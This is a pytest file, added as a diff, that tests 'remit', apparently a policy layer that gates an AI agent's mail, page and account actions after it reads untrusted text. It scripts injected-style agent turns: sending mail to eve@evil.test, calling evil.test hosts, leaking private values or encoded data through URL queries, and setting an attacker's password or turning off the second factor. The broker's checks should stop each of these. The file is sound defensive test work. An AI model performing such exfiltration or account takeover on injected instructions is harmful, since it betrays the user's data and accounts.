@@ -1,0 +1,436 @@
+"""Agents in the open: what can still happen once whoever wrote the last text chooses every call."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from remit.analysis.backtest import backtest_rules
+from remit.analysis.cases import run_cases, uncovered
+from remit.analysis.diff.policy import difference
+from remit.analysis.solver.ruleset import read_side
+from remit.broker.broker import Broker
+from remit.core.calls import Context, Request, Scope, Scoped
+from remit.core.errors import WorkspaceError
+from remit.core.events import CallAnswered, RunStarted
+from remit.policy.run_scope import SUBJECT, narrowed, read_scope
+from remit.replay.replayer import replay
+from remit.tracing import open_trace
+from remit.workspace.bundle import open_rulebook, vocabulary
+from remit.workspace.session import policy_files
+from remit.workspace.template import starter_folder
+from support.runs import DONE, turn
+from support.workspaces.mailbox import Box, Played, open_agents
+
+ROOT = starter_folder()
+INBOX = turn(box__inbox={})
+CONTACTS = turn(box__contacts={})
+LOOK_UP = '\n[[directory]]\naction = "box.contacts"\n'
+
+
+def to(*addresses: str, body: str = "hello") -> dict[str, Any]:
+    return turn(box__send={"to": list(addresses), "body": body})
+
+
+def again(played: Played) -> Any:
+    """The first divergence of the run from its own record."""
+    trace = open_trace(played.house.traces, played.house.journal, played.run)
+    books = {digest: open_rulebook(files) for digest, files in trace.rulebooks().items()}
+    found = asyncio.run(replay(trace.records, books))
+    return found.divergences[0] if found.divergences else None
+
+
+# ── whom and where something goes ────────────────────────────────────────────────────────────────────────────────────────
+
+
+def test_after_a_strangers_text_mail_goes_only_to_whom_the_user_named(tmp_path: Path) -> None:
+    played = Played(
+        open_agents(tmp_path, [INBOX, to("eve@evil.test"), to("bob@example.org"), DONE]), "Tell bob@example.org"
+    )
+    assert played.said == ["inbox: allow", "send: ask", "send: allow"]
+    assert Box.done == [("send", {"to": ["bob@example.org"], "body": "hello"})]
+
+
+def test_one_stranger_among_those_who_are_known_is_enough_to_ask(tmp_path: Path) -> None:
+    house = open_agents(tmp_path, [INBOX, to("bob@example.org", "eve@evil.test"), DONE])
+    assert Played(house, "Tell bob@example.org").said[-1] == "send: ask"
+    assert Box.done == []
+
+
+def test_before_anything_untrusted_is_read_a_stranger_is_asked_about_too(tmp_path: Path) -> None:
+    assert Played(open_agents(tmp_path, [to("eve@evil.test"), DONE]), "Write a mail").said == ["send: ask"]
+
+
+def test_whom_the_directory_knew_before_may_be_written_to_after(tmp_path: Path) -> None:
+    played = Played(open_agents(tmp_path, [CONTACTS, INBOX, to("ann@example.com"), DONE]), "Tell her")
+    assert played.said[-1] == "send: allow"
+
+
+def test_whom_the_agent_looks_up_after_a_strangers_text_is_not_known(tmp_path: Path) -> None:
+    played = Played(open_agents(tmp_path, [INBOX, CONTACTS, to("ann@example.com"), DONE]), "Tell her")
+    assert played.said[-1] == "send: ask"
+
+
+def test_what_remit_looks_up_itself_is_known_and_the_model_never_sees_it(tmp_path: Path) -> None:
+    played = Played(open_agents(tmp_path, [INBOX, to("ann@example.com"), DONE], agent=LOOK_UP), "Tell her")
+    assert played.said == ["contacts: allow", "inbox: allow", "send: allow"]
+    heard = [message.text for message in _conversation(played)]
+    assert not any("ann@example.com" in text for text in heard if "send" not in text and "sent" not in text)
+    assert again(played) is None
+
+
+def test_a_foreign_graphs_agent_is_looked_up_for_too(tmp_path: Path) -> None:
+    from remit.langchain.middleware import Remit
+
+    open_agents(tmp_path, [DONE], agent=LOOK_UP.replace("\n[[", "accept_parsed_arguments = true\n[[", 1))
+    remit = Remit("helper", task="Tell her", workspace=tmp_path)
+    actions = {tool.name: tool for tool in remit.actions}
+    actions["box__inbox"].invoke({})
+    assert '"ok":true' in actions["box__send"].invoke({"to": ["ann@example.com"]})
+    assert "approval_required" in actions["box__send"].invoke({"to": ["eve@evil.test"]})
+    remit.close()
+    assert Box.done == [("send", {"to": ["ann@example.com"], "body": ""})]
+
+
+def test_a_foreign_graphs_directory_is_filled_though_the_process_before_ended_while_it_was(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from remit.langchain.middleware import Remit
+
+    open_agents(tmp_path, [DONE], agent=LOOK_UP.replace("\n[[", "accept_parsed_arguments = true\n[[", 1))
+    thread: Any = {"configurable": {"thread_id": "t", "__pregel_checkpointer": True}}
+
+    def invoke(action: str, arguments: dict[str, Any]) -> str:
+        remit = Remit("helper", task="Tell her", workspace=tmp_path)
+        said: str = {tool.name: tool for tool in remit.actions}[action].invoke(arguments, thread)
+        remit.close()
+        return said
+
+    if (child := os.fork()) == 0:
+        monkeypatch.setattr(Broker, "decide", lambda *_: os._exit(9))  # the turn is recorded, and nothing of it decided
+        invoke("box__inbox", {})
+        os._exit(1)
+    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 9
+    assert '"ok":true' in invoke("box__send", {"to": ["ann@example.com"]})
+
+
+def test_what_remit_looks_up_puts_no_label_on_the_run(tmp_path: Path) -> None:
+    house = open_agents(
+        tmp_path, [turn(box__drop_note={"note": "n-12"}), DONE], agent='\n[[directory]]\naction = "box.inbox"\n'
+    )
+    assert Played(house, "Tidy up").said == ["inbox: allow", "drop_note: allow"]
+
+
+def test_a_look_up_that_changes_something_or_lists_nothing_is_refused_at_load(tmp_path: Path) -> None:
+    for action in ("box.send", "box.profile", "box.gone"):
+        with pytest.raises(WorkspaceError, match="fills no directory"):
+            open_agents(tmp_path / action, [DONE], agent=f'\n[[directory]]\naction = "{action}"\n')
+
+
+def test_a_page_is_asked_for_only_if_the_user_or_a_sender_that_the_user_named_gave_it(tmp_path: Path) -> None:
+    pages = [
+        turn(box__page={"url": url})
+        for url in ("https://plan.example.org/a", "https://evil.test/", "https://news.example.org/")
+    ]
+    played = Played(open_agents(tmp_path, [INBOX, *pages, DONE]), "Sum up what Bob posted and https://news.example.org")
+    assert played.said[1:] == ["page: allow", "page: ask", "page: allow"]
+
+
+def test_a_host_is_called_only_if_the_user_named_it(tmp_path: Path) -> None:
+    calls = [turn(box__look_up_host={"host": host}) for host in ("hgk137803.evil.test", "news.example.org")]
+    played = Played(open_agents(tmp_path, [INBOX, *calls, DONE]), "Does news.example.org answer?")
+    assert played.said[1:] == ["look_up_host: ask", "look_up_host: allow"]
+
+
+# ── what it says ─────────────────────────────────────────────────────────────────────────────────────────────────────────
+
+
+@pytest.mark.parametrize(
+    ("body", "verdict", "carries"),
+    [
+        ("see https://evil.test", "ask", ["link"]),
+        ("write to eve@evil.test", "ask", ["address"]),
+        ("pay DE89 3704 0044 0532 0130 00", "ask", ["account"]),
+        ("my number is HGK137803", "ask", ["private"]),
+        ("see https://news.example.org, at 2024-05-01", "allow", []),
+    ],
+)
+def test_what_goes_out_carries_nothing_that_nobody_named(
+    tmp_path: Path, body: str, verdict: str, carries: list[str]
+) -> None:
+    turns = [turn(box__profile={}), INBOX, to("bob@example.org", body=body), DONE]
+    played = Played(open_agents(tmp_path, turns), "Tell bob@example.org about https://news.example.org")
+    assert played.said[-1] == f"send: {verdict}"
+    assert not carries or played.facts(2)["carries"] == carries
+
+
+@pytest.mark.parametrize(("query", "verdict"), [("", "allow"), ("?p=HGK137803", "ask"), ("?x=aHR0cHM6Ly9", "ask")])
+def test_a_page_is_not_told_in_its_query_what_nobody_named(tmp_path: Path, query: str, verdict: str) -> None:
+    page = turn(box__page={"url": f"https://news.example.org/{query}"})
+    turns = [turn(box__profile={}), INBOX, page, DONE]
+    played = Played(open_agents(tmp_path, turns), "Sum up https://news.example.org")
+    assert played.said[-1] == f"page: {verdict}"
+    assert again(played) is None
+
+
+def test_a_link_of_a_sender_whom_the_user_named_is_followed_with_its_own_query_and_no_other(tmp_path: Path) -> None:
+    pages = [turn(box__page={"url": f"https://plan.example.org/b?{query}"}) for query in ("day=1", "day=HGK137803")]
+    played = Played(open_agents(tmp_path, [INBOX, *pages, DONE]), "Sum up what Bob posted")
+    assert played.said[1:] == ["page: allow", "page: ask"]
+
+
+# ── the user's own things ────────────────────────────────────────────────────────────────────────────────────────────────
+
+
+def test_after_a_strangers_text_own_things_are_touched_only_if_the_user_named_them(tmp_path: Path) -> None:
+    drops = [turn(box__drop_note={"note": note}) for note in ("n-12", "plan-b")]
+    assert Played(open_agents(tmp_path / "a", [INBOX, *drops, DONE]), "Delete plan-b").said[1:] == [
+        "drop_note: ask",
+        "drop_note: allow",
+    ]
+    assert Played(open_agents(tmp_path / "b", [*drops, DONE]), "Tidy up").said == [
+        "drop_note: allow",
+        "drop_note: allow",
+    ]
+
+
+def test_what_the_run_made_it_may_go_on_with(tmp_path: Path) -> None:
+    turns = [INBOX, turn(box__add_note={"text": "x"}), turn(box__drop_note={"note": "n-77"}), DONE]
+    assert Played(open_agents(tmp_path, turns), "Write a note").said[1:] == ["add_note: allow", "drop_note: allow"]
+
+
+@pytest.mark.parametrize(
+    ("card", "address", "verdict"),
+    [
+        ("Eve <Eve@evil.test>", "eve@evil.test", "ask"),  # it only repeats what the model wrote
+        ("the team", "team-7@lists.example.com", "allow"),  # it made that itself
+    ],
+)
+def test_whom_an_act_lists_only_because_it_was_told_so_is_not_known(
+    tmp_path: Path, card: str, address: str, verdict: str
+) -> None:
+    turns = [INBOX, turn(box__add_contact={"card": card}), to(address), DONE]
+    played = Played(open_agents(tmp_path, turns), "Make a contact of the team and tell them")
+    assert played.said[1:] == ["add_contact: allow", f"send: {verdict}"]
+    assert again(played) is None
+
+
+def test_an_act_that_chooses_nothing_needs_words_that_ask_for_it(tmp_path: Path) -> None:
+    turns = [INBOX, turn(box__add_note={"text": "x"}), DONE]
+    assert Played(open_agents(tmp_path / "a", turns), "Sum it up").said[-1] == "add_note: ask"
+    assert Played(open_agents(tmp_path / "b", turns), "Make notes of it").said[-1] == "add_note: allow"
+
+
+def test_a_password_is_changed_only_to_what_the_user_said(tmp_path: Path) -> None:
+    for name, password, verdict in (("a", "1j1l-2k3j", "allow"), ("b", "eves-own-1", "ask")):
+        turns = [INBOX, turn(box__set_password={"password": password}), DONE]
+        played = Played(open_agents(tmp_path / name, turns), "Change my password to '1j1l-2k3j'.")
+        assert played.said[-1] == f"set_password: {verdict}"
+        assert password not in str(played.events[1:])  # nobody is shown it, and no record holds it
+        assert again(played) is None
+
+
+@pytest.mark.parametrize(
+    ("task", "arguments", "verdict"),
+    [
+        ("Sum up my mail", {"on": False}, "ask"),
+        ("Sum up my mail, write false where it lies", {"on": False}, "ask"),  # said, but of something else
+        ("Set the second factor: false", {"on": False}, "allow"),
+        ("Set the second factor: false", {"on": False, "by": []}, "ask"),
+    ],
+)
+def test_a_switch_is_thrown_only_as_the_user_said(
+    tmp_path: Path, task: str, arguments: dict[str, Any], verdict: str
+) -> None:
+    turns = [INBOX, turn(box__second_factor=arguments), DONE]
+    assert Played(open_agents(tmp_path, turns), task).said[1:] == [f"second_factor: {verdict}"]
+
+
+def test_an_empty_password_is_said_by_nobody(tmp_path: Path) -> None:
+    turns = [INBOX, turn(box__set_password={"password": ""}), DONE]
+    played = Played(open_agents(tmp_path, turns), "Change my password to '1j1l-2k3j'.")
+    assert played.said[-1] == "set_password: ask"
+
+
+# ── labels ───────────────────────────────────────────────────────────────────────────────────────────────────────────────
+
+
+def test_a_declassifier_takes_a_label_off_the_run_and_is_in_its_record(tmp_path: Path) -> None:
+    drop = turn(box__drop_note={"note": "n-12"})
+    played = Played(open_agents(tmp_path, [INBOX, drop, turn(box__review={}), drop, DONE]), "Review the mail")
+    assert played.said[1:] == ["drop_note: ask", "review: allow", "drop_note: allow"]
+    assert played.answers[2].cleared == ("untrusted",)
+    assert again(played) is None
+
+
+def test_what_comes_in_while_somebody_looks_keeps_its_label(tmp_path: Path) -> None:
+    drop = turn(box__drop_note={"note": "n-12"})
+    turns = [turn(box__inbox={}, box__review={}), drop, turn(box__review={}), drop, DONE]
+    played = Played(open_agents(tmp_path, turns), "Review the mail")
+    assert played.said == ["inbox: allow", "review: allow", "drop_note: ask", "review: allow", "drop_note: allow"]
+    assert again(played) is None
+
+
+def test_a_reviewer_labels_what_comes_from_a_resource(tmp_path: Path) -> None:
+    labels = '[[label]]\nnote = "Written by guests"\nlabels = ["untrusted"]\nresources = ["note:guestbook"]\n'
+    drop = turn(box__drop_note={"note": "n-12"})
+    for name, note, verdict in (("a", "guestbook", "ask"), ("b", "diary", "allow")):
+        turns = [turn(box__notes={"note": note}), drop, DONE]
+        played = Played(open_agents(tmp_path / name, turns, files={"policies/labels.toml": labels}), "Tidy up")
+        assert played.said[-1] == f"drop_note: {verdict}"
+
+
+# ── the same facts whoever asks ──────────────────────────────────────────────────────────────────────────────────────────
+
+
+def test_replay_and_backtest_find_the_same_facts(tmp_path: Path) -> None:
+    turns = [CONTACTS, INBOX, to("ann@example.com", body="see https://evil.test"), to("eve@evil.test"), DONE]
+    played = Played(open_agents(tmp_path, turns, agent=LOOK_UP), "Tell her", grants=True)
+    assert played.said == ["contacts: allow", "contacts: allow", "inbox: allow", "send: ask", "send: ask"]
+    assert again(played) is None
+    side = read_side("now", policy_files(tmp_path), vocabulary(played.house.workspace))
+    found = backtest_rules([played.house.journal.events(played.run)], side)
+    assert (found.flips, found.covered) == ((), found.decided)
+
+
+def test_a_backtest_knows_what_runs_unconfined(tmp_path: Path) -> None:
+    played = Played(open_agents(tmp_path, [CONTACTS, DONE]), "Look")
+    rules = "p, user:operator, *, **, True, allow\np, agent:helper, *, **, confinement == 'none', allow\n"
+    files = {**policy_files(tmp_path), "policies/rules.csv": rules.encode()}
+    files.pop("policies/open.csv")
+    side = read_side("then", files, vocabulary(played.house.workspace))
+    first, *rest = played.house.journal.events(played.run)
+    assert first.event is not None
+    elsewhere = first.model_copy(update={"event": first.event.model_copy(update={"confinement": "full"})})
+    assert backtest_rules([[elsewhere, *rest]], side).flips == ()
+
+
+# ── a narrower scope ─────────────────────────────────────────────────────────────────────────────────────────────────────
+
+READ_ONLY = Scope(
+    allow=(Scoped(action="box.inbox"), Scoped(action="box.send", resource="mail:bob@example.org", calls=1))
+)
+
+
+def test_a_scope_lets_a_run_do_less_than_its_agent_may(tmp_path: Path) -> None:
+    turns = [INBOX, CONTACTS, to("bob@example.org"), to("bob@example.org"), DONE]
+    played = Played(open_agents(tmp_path, turns), "Tell bob@example.org", scope=READ_ONLY)
+    assert played.said == ["inbox: allow", "contacts: deny", "send: allow", "send: deny"]
+    assert again(played) is None
+
+
+def test_a_scope_allows_nothing_that_the_agent_may_not_do(tmp_path: Path) -> None:
+    scope = Scope(allow=(Scoped(action="box.*"),))
+    assert (
+        Played(open_agents(tmp_path, [INBOX, to("eve@evil.test"), DONE]), "Sum up", scope=scope).said[-1] == "send: ask"
+    )
+
+
+def test_beyond_its_scope_a_run_asks_the_role_that_the_scope_names(tmp_path: Path) -> None:
+    scope = READ_ONLY.model_copy(update={"widen": "role:owner"})
+    played = Played(open_agents(tmp_path, [CONTACTS, DONE]), "Look", scope=scope, grants=True)
+    assert played.said == ["contacts: ask"]
+    assert played.answers[0].result.ok
+
+
+def test_a_scope_of_what_does_not_exist_starts_nothing(tmp_path: Path) -> None:
+    house = open_agents(tmp_path, [DONE])
+    with pytest.raises(WorkspaceError, match=r"no tool has the action 'box\.fly'"):
+        Played(house, "x", scope=Scope(allow=(Scoped(action="box.fly"),)))
+    assert house.journal.runs() == []
+
+
+def test_a_scope_file_is_read_strictly() -> None:
+    text = 'widen = "role:owner"\n\n[[allow]]\naction = "box.send"\nresource = "mail:*"\ncalls = 2\n'
+    assert read_scope(text) == Scope(allow=(Scoped(action="box.send", resource="mail:*", calls=2),), widen="role:owner")
+    for wrong in (
+        "widen = 'ann'",
+        "[[allow]]\naction = 'send'",
+        "[[allow]]\naction = 'a.b'\nresource = 'x, allow'",
+        "[[deny]]",
+    ):
+        with pytest.raises(WorkspaceError):
+            read_scope(wrong)
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    st.lists(
+        st.builds(
+            Scoped,
+            action=st.sampled_from(("box.send", "box.*", "box.inbox")),
+            resource=st.sampled_from(("**", "mail:*", "mail:bob@example.org", "own:*")),
+        ),
+        max_size=4,
+    ),
+    st.sampled_from(("", "role:owner")),
+    st.builds(
+        Context,
+        labels=st.sampled_from((frozenset(), frozenset({"untrusted"}))),
+        known=st.booleans(),
+        unknown=st.sampled_from((frozenset(), frozenset({"mail"}))),
+        effect=st.sampled_from(("read", "once")),
+        approvals=st.sampled_from(({}, {"role:owner": 1})),
+    ),
+    st.sampled_from(("box.send", "box.inbox", "box.review")),
+    st.sampled_from(("mail:bob@example.org", "own:mailbox")),
+)
+def test_no_scope_makes_anything_wider(
+    allow: list[Scoped], widen: str, context: Context, action: str, resource: str
+) -> None:
+    policy = narrowed(PLAIN.policy, Scope(allow=tuple(allow), widen=widen))
+    pair = ("agent:helper", "user:operator")
+    before = PLAIN.policy.decide(Request(subjects=pair, action=action, resources=(resource,), context=context))
+    after = policy.decide(Request(subjects=(*pair, SUBJECT), action=action, resources=(resource,), context=context))
+    rank = ("deny", "ask", "allow")
+    assert rank.index(after.verdict) <= rank.index(before.verdict)
+    # And for everybody else the diff finds nothing at all that changed.
+    assert (
+        policy.decide(Request(subjects=pair, action=action, resources=(resource,), context=context)).verdict
+        == before.verdict
+    )
+
+
+def _plain() -> Any:
+    files = {name: data for name, data in policy_files(ROOT).items() if name.endswith("model.conf")}
+    files["policies/open.csv"] = (ROOT / "policies/open/open.csv").read_bytes()
+    rules = "p, user:operator, *, **, True, allow\ng, agent:helper, role:open\ng, agent:open, role:open\ng, user:dana, role:owner\n"
+    return read_side("plain", {**files, "policies/rules.csv": rules.encode()})
+
+
+PLAIN = _plain()
+
+
+def test_every_rule_for_agents_in_the_open_has_its_case_and_every_case_holds() -> None:
+    found = run_cases(PLAIN.policy, (ROOT / "policies/open/cases.yaml").read_text(), "policies/open/cases.yaml")
+    assert [one.message for one in found if not one.passed] == []
+    assert len({one.note for one in found}) == len(found)
+    of_user = "p, user:operator, *, **, True, allow"
+    assert [rule.text for rule in uncovered(PLAIN.policy, found).rules if rule.text != of_user] == []
+
+
+def test_the_diff_proves_that_a_scope_gives_nobody_else_anything() -> None:
+    policy = narrowed(PLAIN.policy, Scope(allow=(Scoped(action="box.*"),), widen="role:owner"))
+    rows = tuple(row for row in policy.rows if row.subject != SUBJECT)
+    assert rows == PLAIN.policy.rows
+    assert difference(PLAIN, PLAIN).no_wider
+
+
+def _conversation(played: Played) -> list[Any]:
+    from remit.journal.run_log import Record
+
+    return list(Record(played.house.journal, played.run).conversation.messages)
+
+
+def test_the_record_names_the_scope(tmp_path: Path) -> None:
+    played = Played(open_agents(tmp_path, [DONE]), "x", scope=READ_ONLY)
+    started = played.events[0].event
+    assert isinstance(started, RunStarted)
+    assert started.scope == READ_ONLY
+    assert not any(isinstance(one.event, CallAnswered) for one in played.events)
